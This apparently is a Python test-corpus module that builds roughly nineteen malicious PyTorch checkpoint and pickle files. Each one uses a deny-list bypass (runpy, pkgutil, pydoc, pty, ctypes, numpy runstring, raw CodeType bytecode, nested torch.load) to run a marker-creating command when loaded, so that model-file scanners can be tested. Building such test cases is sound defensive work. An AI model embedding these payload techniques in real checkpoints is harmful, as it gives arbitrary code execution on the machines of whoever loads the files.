"""Callables that published scanner bypasses used because deny-lists missed them.

Each payload creates the marker when unpickled by an unsafe loader. Most are ``__reduce__`` objects
pickled by ``torch.save`` inside a real state_dict; where the construct to be named must be the first
global in the stream, the object it builds is stored under an earlier key and reused through the
pickler's memo. ``types.CodeType`` (which Python's pickler cannot name) and a callable torch 2.14 no
longer has are hand-assembled.
"""

from __future__ import annotations

import builtins
import code
import cProfile
import ctypes
import functools
import importlib
import operator
import os
import pickle
import pkgutil
import pty
import pydoc
import runpy
import time
import timeit
from collections.abc import Callable
from pathlib import Path
from typing import Any

from corpus_record import (
    G, Case, Payload, call, get, literal, names, put, python, save_obj, shell, state_dict, with_fragment,
)
from hostile_files import write_zip

Make = Callable[[Path], Any]  # marker -> the object placed in the checkpoint


def _os() -> Payload:
    return Payload(importlib.import_module, "os")


def _first(obj: Payload, then: Payload) -> dict[str, Any]:
    """``obj`` under an earlier key, so that its global comes first; ``then`` reuses it (memo)."""
    return {"a": obj, "b": then}


def _ctypes(m: Path) -> dict[str, Any]:
    lib = Payload(ctypes.CDLL, None)
    return _first(lib, Payload(Payload(getattr, lib, "system"), shell(m).encode()))


def _interp(m: Path) -> dict[str, Any]:
    interp = Payload(code.InteractiveInterpreter)
    return _first(interp, Payload(Payload(getattr, interp, "runsource"), python(m)))


def _import_module(m: Path) -> dict[str, Any]:
    mod = _os()
    return _first(mod, Payload(Payload(getattr, mod, "system"), shell(m)))


def _torch_load(m: Path) -> Payload:
    import torch

    inner = m.with_name(m.name + "-inner.pt")
    torch.save({"x": Payload(os.system, shell(m))}, inner)
    return Payload(functools.partial(torch.load, weights_only=False), str(inner))


def _collect_env(m: Path) -> Payload:
    import torch.utils.collect_env as collect_env

    return Payload(collect_env.run, shell(m))


def _runstring(m: Path) -> Payload:
    from numpy.testing._private import utils

    return Payload(utils.runstring, python(m), {})


CALLABLES: dict[str, tuple[str, str, Make]] = {  # id: (technique, refused global, payload)
    "eval": ("builtins.eval of a source string", "builtins.eval",
             lambda m: Payload(builtins.eval, f"__import__('os').system({shell(m)!r})")),
    "exec": ("builtins.exec of a source string", "builtins.exec", lambda m: Payload(builtins.exec, python(m))),
    "getattr": ("builtins.getattr(os, 'system') built inside the pickle", "builtins.getattr",
                lambda m: Payload(Payload(getattr, _os(), "system"), shell(m))),
    "runpy": ("runpy._run_code, missing from picklescan's deny-list", "runpy._run_code",
              lambda m: Payload(runpy._run_code, python(m), {})),
    "pkgutil": ("pkgutil.resolve_name('os:system'), a resolver missing from deny-lists", "pkgutil.resolve_name",
                lambda m: Payload(Payload(pkgutil.resolve_name, "os:system"), shell(m))),
    "pydoc": ("pydoc.locate('os.system'), a resolver missing from deny-lists", "pydoc.locate",
              lambda m: Payload(Payload(pydoc.locate, "os.system"), shell(m))),
    "methodcaller": ("operator.methodcaller('system', cmd)(os)", "operator.methodcaller",
                     lambda m: Payload(Payload(operator.methodcaller, "system", shell(m)), _os())),
    "attrgetter": ("operator.attrgetter('system')(os)(cmd)", "operator.attrgetter",
                   lambda m: Payload(Payload(Payload(operator.attrgetter, "system"), _os()), shell(m))),
    "partial": ("functools.partial(os.system, cmd)() hides the call in a partial", "functools.partial",
                lambda m: Payload(Payload(functools.partial, os.system, shell(m)))),
    "import-module": ("importlib.import_module('os'), then getattr", "importlib.import_module", _import_module),
    "interpreter": ("code.InteractiveInterpreter().runsource(src)", "code.InteractiveInterpreter", _interp),
    "ctypes": ("ctypes.CDLL(None).system(cmd): libc through ctypes", "ctypes.CDLL", _ctypes),
    "pty": ("pty.spawn(['sh', '-c', cmd]), missing from deny-lists", "pty.spawn",
            lambda m: Payload(pty.spawn, ["sh", "-c", shell(m)])),
    "timeit": ("timeit.timeit(stmt) executes its statement", "timeit.timeit",
               lambda m: Payload(timeit.timeit, python(m), "pass", time.perf_counter, 1)),
    "cprofile": ("cProfile.run(stmt) executes its statement", "cProfile.run",
                 lambda m: Payload(cProfile.run, python(m))),
    "collect-env": ("torch.utils.collect_env.run(cmd): a shell call inside torch", "torch.utils.collect_env.run",
                    _collect_env),
    "runstring": ("numpy.testing._private.utils.runstring: exec inside numpy",
                  "numpy.testing._private.utils.runstring", _runstring),
    "pickle-loads": ("a nested pickle.loads of a second payload pickle", "pickle.loads",
                     lambda m: Payload(pickle.loads, pickle.dumps(Payload(os.system, shell(m)), protocol=2))),
    "torch-load": ("torch.load wrapped in functools.partial(weights_only=False) on a second file",
                   "functools.partial", _torch_load),
}


def _zip_case(cid: str, technique: str, refused: str, make: Make, fmt: str = "zip") -> Case:
    def build(folder: Path, marker: Path) -> Path:
        return save_obj(folder / f"{cid}.pt", {**state_dict(), "extra": make(marker)}, fmt)

    return Case(f"call-{cid}" + ("" if fmt == "zip" else f"-{fmt}"), f"{technique} ({fmt})",
                build, names(refused), live=True)


def _bare_case(cid: str, technique: str, refused: str, make: Make) -> Case:
    def build(folder: Path, marker: Path) -> Path:
        path = folder / f"{cid}-bare.pkl"
        path.write_bytes(pickle.dumps({"state_dict": make(marker)}, protocol=2))
        return path

    return Case(f"call-{cid}-bare", f"{technique} (a bare pickle.dumps file)", build, names(refused), live=True)


def _code_type(base: int) -> Callable[[Path], bytes]:
    def fragment(marker: Path) -> bytes:
        c = compile(python(marker), "<corpus>", "exec")
        fields = (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals, c.co_stacksize,
                  c.co_flags, c.co_code, c.co_consts, c.co_names, c.co_varnames, c.co_filename, c.co_name,
                  c.co_qualname, c.co_firstlineno, c.co_linetable, c.co_exceptiontable)
        code_obj = call(G("types", "CodeType"), *(literal(f) for f in fields)) + put(base) + b"0"
        return code_obj + call(call(G("types", "FunctionType"), get(base), b"}"))

    return fragment


def _hand_case(cid: str, technique: str, refused: str, fragment: Callable[[Path, int], bytes], live: bool) -> Case:
    def build(folder: Path, marker: Path) -> Path:
        path = folder / f"{cid}.pt"
        write_zip(path, with_fragment(lambda base: fragment(marker, base)))
        return path

    return Case(f"call-{cid}", technique, build, names(refused), live=live)


def cases() -> list[Case]:
    out = [_zip_case(cid, *spec) for cid, spec in CALLABLES.items()]
    out += [_zip_case(cid, *CALLABLES[cid], fmt="legacy") for cid in ("ctypes", "runpy", "pickle-loads")]
    out += [_bare_case(cid, *CALLABLES[cid]) for cid in ("pkgutil", "runpy", "pickle-loads")]
    out.append(_hand_case("codetype", "types.CodeType + types.FunctionType: a function built from raw bytecode",
                          "types.CodeType", lambda m, base: _code_type(base)(m), live=True))
    out.append(_hand_case(
        "inductor-compile-file",
        "torch._inductor.codecache.compile_file (a shell call in older torch; absent from torch 2.14)",
        "torch._inductor.codecache.compile_file",
        lambda m, base: call(G("torch._inductor.codecache", "compile_file"), literal("a.c"), literal("a.o"),
                             literal(["sh", "-c", shell(m)])),
        live=False))
    return out
